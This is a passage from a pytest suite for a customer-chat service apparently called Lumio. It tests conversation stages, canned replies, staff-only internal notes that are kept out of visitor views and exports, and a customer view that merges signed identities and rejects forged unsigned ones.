    httpx.post(f"{server.url}/v1/conversations/{first['conversation_id']}/handoff", json=handoff).raise_for_status()
    _status(server, tokens["editor"], first["conversation_id"], status="pending").raise_for_status()
    items = api(server, tokens["viewer"], "GET", "/conversations", params={"q": "second staff calendar"}).json()
    assert [c["turns"] for c in items["items"]] == [2]


def test_stage_now_follows_a_correction_of_the_last_turn(staff):
    server, tokens = staff
    first = chat(server, "Tell me about the quokka mascot on your homepage")
    ids = {"conversation_id": first["conversation_id"], "visitor_id": first["visitor_id"]}
    second = chat(server, "Does the quokka have a name?", **ids)
    conversation = first["conversation_id"]
    now = api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()["stage"]
    target = "advocacy" if now != "advocacy" else "renewal"
    api(server, tokens["editor"], "PUT", f"/touchpoints/{first['message_id']}/stage", json={"stage": target})
    assert api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()["stage"] == now, (
        "correcting an earlier turn leaves the stage now as the last turn's"
    )
    api(server, tokens["editor"], "PUT", f"/touchpoints/{second['message_id']}/stage", json={"stage": target})
    assert api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()["stage"] == target
    listed = api(server, tokens["viewer"], "GET", "/conversations", params={"q": "quokka", "stage": target}).json()
    assert [(c["id"], c["stage"]) for c in listed["items"]] == [(conversation, target)]


# ---- canned replies and internal notes ----


def test_canned_replies_are_saved_searched_changed_and_deleted(staff):
    server, tokens = staff
    body = {"title": "Refund policy", "text": "Refunds within 30 days: Billing → Invoices → Refund."}
    made = api(server, tokens["editor"], "POST", "/canned", json=body)
    assert made.status_code == 201, made.text
    canned = made.json()
    assert (canned["title"], canned["created_by"]) == ("Refund policy", "editor@lumio.example")
    other = api(server, tokens["editor"], "POST", "/canned", json={"title": "Opening hours", "text": "9 to 5."}).json()
    found = api(server, tokens["viewer"], "GET", "/canned", params={"q": "invoices"}).json()["items"]
    assert [c["id"] for c in found] == [canned["id"]], "found by text"
    found = api(server, tokens["viewer"], "GET", "/canned", params={"q": "OPENING"}).json()["items"]
    assert [c["id"] for c in found] == [other["id"]], "found by title, any case"
    changed = api(server, tokens["editor"], "PUT", f"/canned/{canned['id']}", json={**body, "text": "Within 60 days."})
    assert changed.json()["text"] == "Within 60 days."
    same_title = api(server, tokens["editor"], "POST", "/canned", json=body)
    assert same_title.status_code == 422 and "already exists" in same_title.text
    blank = api(server, tokens["editor"], "POST", "/canned", json={"title": "   ", "text": "x"})
    assert blank.status_code == 422 and "must not be empty" in blank.text
    assert api(server, tokens["viewer"], "POST", "/canned", json={"title": "v", "text": "v"}).status_code == 403
    assert api(server, tokens["editor"], "DELETE", f"/canned/{canned['id']}").status_code == 204
    assert api(server, tokens["editor"], "DELETE", f"/canned/{canned['id']}").status_code == 404
    titles = [c["title"] for c in api(server, tokens["viewer"], "GET", "/canned").json()["items"]]
    assert "Refund policy" not in titles and "Opening hours" in titles


def test_internal_notes_are_for_staff_only_and_erased_with_the_visitor(staff):
    server, tokens = staff
    turn = chat(server, "Can I pay by bank transfer?")
    conversation, visitor_id = turn["conversation_id"], turn["visitor_id"]
    secret = "Internal: VIP customer (code ZANZIBAR-7731), offer them 20% off"
    note = api(server, tokens["editor"], "POST", f"/conversations/{conversation}/notes", json={"text": secret})
    assert note.status_code == 201 and note.json()["author"] == "editor@lumio.example", note.text
    path = f"/conversations/{conversation}/notes"
    assert api(server, tokens["viewer"], "POST", path, json={"text": "x"}).status_code == 403
    missing = api(server, tokens["editor"], "POST", "/conversations/nope-nope/notes", json={"text": "x"})
    assert missing.status_code == 404
    empty = api(server, tokens["editor"], "POST", path, json={"text": " "})
    assert empty.status_code == 422 and "must not be empty" in empty.text
    transcript = api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").json()
    assert [n["text"] for n in transcript["notes"]] == [secret]

    ids = {"conversation_id": conversation, "visitor_id": visitor_id}
    seen = [
        httpx.get(f"{server.url}/v1/conversations/{conversation}", params={"visitor_id": visitor_id}, timeout=30),
        httpx.post(f"{server.url}/v1/chat", json={"message": "And by card?", **ids}, timeout=60),
        httpx.post(f"{server.url}/v1/chat/stream", json={"message": "What about PayPal?", **ids}, timeout=60),
    ]
    for response in seen:
        assert response.status_code == 200, response.text
        assert "ZANZIBAR" not in response.text and "VIP" not in response.text, response.text
    exported = api(server, tokens["editor"], "GET", "/export", params={"visitor_id": visitor_id}).text
    assert secret not in exported, "notes are not touchpoints: they stay out of exports and webhooks"

    erased = api(server, tokens["admin"], "DELETE", f"/visitors/{visitor_id}").json()["erased"]
    assert erased["notes"] == 1
    assert api(server, tokens["viewer"], "GET", f"/conversations/{conversation}").status_code == 404


# ---- the customer view (signed identities) ----

IDENTITY_SECRET = "host-server-secret-for-customers"


@pytest.fixture(scope="module")
def signed_server(make_data_dir):
    data_dir = make_data_dir()
    tokens = make_tokens(data_dir)
    server = Server(data_dir, JOURNEY_IDENTITY_SECRET=IDENTITY_SECRET)
    yield server, tokens
    server.stop()


def signed(customer_id: str, **fields) -> dict:
    from app.security.identity import sign

    identity = {"id": customer_id, "known_customer": True, "expires": int(time.time()) + 3600, **fields}
    return {**identity, "signature": sign(identity, IDENTITY_SECRET)}


def test_customer_view_gathers_a_signed_identity_across_visitors(signed_server):
    server, tokens = signed_server
    kim = signed("cus_42", email="kim@salon.example", name="Kim Lee", plan="pro")
    laptop = chat(server, "How much does the pro plan cost?", identity=kim)
    same = {k: laptop[k] for k in ("conversation_id", "visitor_id")}
    chat(server, "Can I add a second location?", identity=kim, **same)
    phone = chat(server, "My calendar sync stopped working", identity=kim)  # another device: another visitor id
    assert phone["visitor_id"] != laptop["visitor_id"]
    vote = {"visitor_id": phone["visitor_id"], "message_id": phone["message_id"], "rating": "down", "comment": "slow"}
    httpx.post(f"{server.url}/v1/conversations/{phone['conversation_id']}/feedback", json=vote).raise_for_status()
    ask = {"visitor_id": phone["visitor_id"], "email": "kim@salon.example", "message": "call me"}
    httpx.post(f"{server.url}/v1/conversations/{phone['conversation_id']}/handoff", json=ask).raise_for_status()
    forged = chat(server, "What is Lumio?", identity={"id": "cus_42", "email": "eve@example.com"})  # not signed
    other = chat(server, "What is Lumio?", identity=signed("cus_7", email="sam@example.com"))

    view = api(server, tokens["viewer"], "GET", "/customers/cus_42")
    assert view.status_code == 200, view.text
    data = view.json()
    ids = {c["id"] for c in data["conversations"]}
    assert ids == {laptop["conversation_id"], phone["conversation_id"]} and data["total"] == 2
    assert forged["conversation_id"] not in ids and other["conversation_id"] not in ids
    assert data["identity"]["email"] == "kim@salon.example" and data["identity"]["name"] == "Kim Lee"
    assert "signature" not in data["identity"] and data["identity"]["verified"] is True
    assert [j["stage"] for j in data["journey"]][0] == laptop["stage"]["name"] and all(j["at"] for j in data["journey"])
    assert {j["conversation_id"] for j in data["journey"]} == ids
    assert [(f["rating"], f["comment"]) for f in data["feedback"]] == [("down", "slow")]
    assert [(h["email"], h["message"]) for h in data["handoffs"]] == [("kim@salon.example", "call me")]
    listed = api(server, tokens["viewer"], "GET", "/conversations", params={"customer": "cus_42"}).json()
    assert {c["id"] for c in listed["items"]} == ids
    exported = api(server, tokens["editor"], "GET", "/export", params={"customer": "cus_42"}).text.splitlines()
    assert {json.loads(line)["conversation_id"] for line in exported} == ids
    missing = api(server, tokens["viewer"], "GET", "/customers/cus_404")
    assert missing.status_code == 404 and "signed identity" in missing.text
    assert api(server, None, "GET", "/customers/cus_42").status_code == 401
